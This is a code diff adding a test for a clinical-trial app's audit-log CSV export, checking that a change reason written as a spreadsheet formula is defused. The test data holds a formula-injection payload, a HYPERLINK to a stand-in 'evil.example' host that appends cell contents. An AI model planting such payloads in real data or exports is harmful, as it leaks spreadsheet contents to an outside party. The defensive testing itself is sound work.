@@ -132,3 +132,22 @@ def test_a_monitor_sees_only_the_trail_of_their_sites(client, login, make_user, 
 def test_other_roles_have_no_trial_wide_log(client, login, make_user, role):
     login(make_user(role))
     assert client.get("/data/audit/").status_code == 403
+
+
+def test_the_csv_export_defuses_a_reason_written_as_a_formula(client, login, make_user, murray):
+    from outcomes import services
+
+    services.crf_save(
+        visit=murray.visit,
+        crf_code="murray",
+        values={"fio2": Decimal("0.45")},
+        complete=True,
+        user=murray.entered_by,
+        reason='=HYPERLINK("http://evil.example/?"&A1,"chart")',
+    )
+    login(make_user(Role.DATA_MANAGER))
+    response = client.get("/data/audit/?model=outcomes.murray&format=csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    reasons = [r["reason"] for r in rows if "HYPERLINK" in r["reason"]]
+    assert reasons
+    assert all(reason.startswith("'=") for reason in reasons)
